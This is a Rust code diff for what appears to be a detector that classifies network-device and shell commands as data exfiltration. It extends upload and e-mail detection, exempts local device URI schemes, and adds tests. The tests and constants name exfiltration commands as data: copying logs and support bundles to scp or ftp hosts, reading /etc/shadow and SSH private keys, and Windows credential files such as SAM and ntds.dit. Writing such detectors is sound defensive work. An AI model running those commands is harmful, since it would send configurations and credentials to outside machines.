@@ -30,6 +30,10 @@ const LOOPBACK: [&str; 4] = ["localhost", "127.", "[::1]", "::1"];
 /// How files are named that lie on another machine, on network devices.
 const REMOTE: [&str; 9] = ["tftp:", "ftp:", "ftps:", "scp:", "sftp:", "rcp:", "http:", "https:", "s3:"];
 
+/// How some devices name their own files.
+const LOCAL: [&str; 8] =
+    ["config://", "coredump://", "file://", "flash://", "home://", "image://", "severity-profile://", "supportbundle://"];
+
 /// Where Windows keeps hashes of passwords, and passwords of its installation.
 const OF_WINDOWS: [&str; 5] = ["/config/sam", "/repair/sam", "/ntds.dit", "unattend.xml", "/sysprep.xml"];
 /// Commands of devices that tell of a file what is not in it.
@@ -168,8 +172,11 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let words = words.get(words.iter().take(words.len().saturating_sub(1)).take_while(leads).count()..).unwrap_or_default();
     // `u@h:/x`, as scp has it.
     let has_host = |word: &str| word.split_once('@').is_some_and(|(_, host)| host.has(':'));
-    let is_remote =
-        |word: &str| REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme)) || word.holds("://") || has_host(word);
+    let is_local = |word: &str| LOCAL.iter().any(|scheme| word.starts_with(scheme));
+    let is_remote = |word: &str| {
+        let has_scheme = REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme));
+        has_scheme || word.holds("://") && !is_local(word) || has_host(word)
+    };
     // The source of a copy stands first among its operands, what it goes to behind.
     let named = words.iter().skip(1).filter(|word| !word.starts_with('/') || word.holds("://"));
     let first = words.first().map(|word| word.trim_start_matches('/')).unwrap_or_default();
@@ -183,7 +190,10 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     // What is saved has no name there: the only operand is where it goes.
     let saves =
         first.len() > 1 && ["save", "write"].iter().any(|full| full.starts_with(first)) && words.iter().skip(1).any(|word| is_remote(word));
-    let uploads = words.iter().any(|word| matches!(word.as_str(), "upload=yes" | "e-mail" | "upload"));
+    let mut steps = words.iter().flat_map(|word| word.split('/'));
+    let mails = steps.any(|step| step == "e-mail") && steps.any(|step| step.len() > 2 && "send".starts_with(step));
+    let sends = |word: &String| matches!(word.as_str(), "upload=yes" | "upload" | "upload-file") || word.starts_with("http-data=");
+    let uploads = mails || words.iter().any(sends);
     if goes || saves || uploads {
         return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
     }
@@ -279,6 +289,13 @@ mod tests {
             ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
             ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
             ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
+            ("/tool fetch url=https://h/ http-method=post http-data=x", Some(EXFILTRATION)),
+            ("/tool e-mail send to=x file=y", Some(EXFILTRATION)),
+            ("/tool/e-mail/send to=x", Some(EXFILTRATION)),
+            ("/tool e-mail print", None),
+            ("copy supportbundle://x scp://u@192.0.2.1/x", Some(EXFILTRATION)),
+            ("copy running-configuration config://x.xml", None),
+            ("copy scp://u@192.0.2.1/x home://x", None),
             ("more file:/etc/shadow", Some(EXFILTRATION)),
             ("type \"C:\\Users\\x\\.ssh\\id_rsa\"", Some(EXFILTRATION)),
             ("type C:\\Users\\x\\.ssh\\id_rsa.pub", None),
